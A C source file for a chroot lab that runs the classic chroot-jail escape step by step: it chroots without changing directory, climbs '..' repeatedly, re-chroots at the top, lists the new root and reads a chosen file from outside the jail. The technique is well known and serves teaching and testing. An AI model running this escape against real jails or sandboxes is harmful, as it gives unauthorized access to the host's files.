// SPDX-License-Identifier: GPL-2.0
/*
 * chroot_escape - the classic way out of a chroot jail, step by step, for
 * the chroot lab (docs/labs/chroot.md, tests/labs/chroot.sh).
 *
 *   chroot_escape DIR FILE
 *
 *  1. mkdir DIR and chroot(DIR), but do not chdir into it: the process's
 *     root is now DIR, and its working directory is outside its root.
 *  2. chdir("..") 64 times.  The kernel stops ".." at the process's root
 *     only when the walk is *at* that root; a cwd outside it never meets
 *     it, and climbs until ".." of a directory is itself: the top of the
 *     mount namespace's tree.
 *  3. chroot("."): that top is now the root.
 *  4. Print what "/" holds now, and FILE's first line if it can be read.
 *
 * Static: it is copied into a jail (and a box) that has no C library.
 * Exit: 0 FILE was read (out), 1 every step worked but FILE is not there
 * (in), 2 a step failed (no CAP_SYS_CHROOT, a read-only DIR, ...).
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void show_root(void)
{
	DIR *d = opendir("/");
	struct dirent *e;

	if (!d) {
		printf("opendir /: %s\n", strerror(errno));
		return;
	}
	printf("/ holds:");
	while ((e = readdir(d)))
		if (e->d_name[0] != '.')
			printf(" %s", e->d_name);
	printf("\n");
	closedir(d);
}

int main(int argc, char **argv)
{
	char cwd[4096], line[256];
	FILE *f;
	int i;

	if (argc != 3) {
		fprintf(stderr, "usage: chroot_escape DIR FILE\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	if (mkdir(argv[1], 0755) && errno != EEXIST) {
		printf("mkdir %s: %s\n", argv[1], strerror(errno));
		return 2;
	}
	if (chroot(argv[1])) {
		printf("chroot(\"%s\"): %s\n", argv[1], strerror(errno));
		return 2;
	}
	printf("chroot(\"%s\"): ok; the cwd is now outside the root\n", argv[1]);
	for (i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	printf("chdir(\"..\") x %d: ok\n", i);
	if (chroot(".")) {
		printf("chroot(\".\"): %s\n", strerror(errno));
		return 2;
	}
	if (chdir("/") || !getcwd(cwd, sizeof(cwd)))
		snprintf(cwd, sizeof(cwd), "?");
	printf("chroot(\".\"): ok; cwd %s\n", cwd);
	show_root();
	f = fopen(argv[2], "r");
	if (!f) {
		printf("open %s: %s\n", argv[2], strerror(errno));
		return 1;
	}
	if (!fgets(line, sizeof(line), f))
		line[0] = '\0';
	fclose(f);
	line[strcspn(line, "\n")] = '\0';
	printf("read %s: %s\n", argv[2], line);
	return 0;
}
